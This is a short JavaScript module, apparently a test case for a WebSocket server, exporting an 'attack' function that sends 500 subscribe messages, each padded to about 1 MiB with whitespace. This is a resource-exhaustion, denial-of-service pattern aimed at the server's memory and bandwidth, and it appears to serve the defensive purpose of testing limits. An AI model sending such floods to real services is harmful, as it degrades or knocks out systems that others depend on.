/** Subscribes to 500 topics with a short extra field each, in frames that are 1 MiB long for nothing. */
const TOPICS = 500;
const padding = ' '.repeat((1 << 20) - 200);

export async function attack(stranger) {
  const socket = await stranger.webSocket();
  await stranger.send(socket, frames());
}

function* frames() {
  for (let i = 0; i < TOPICS; i++)
    yield `{"event":"subscribe","subscription":"extra.${i}","q":"a value of an extra field"${padding}}`;
}
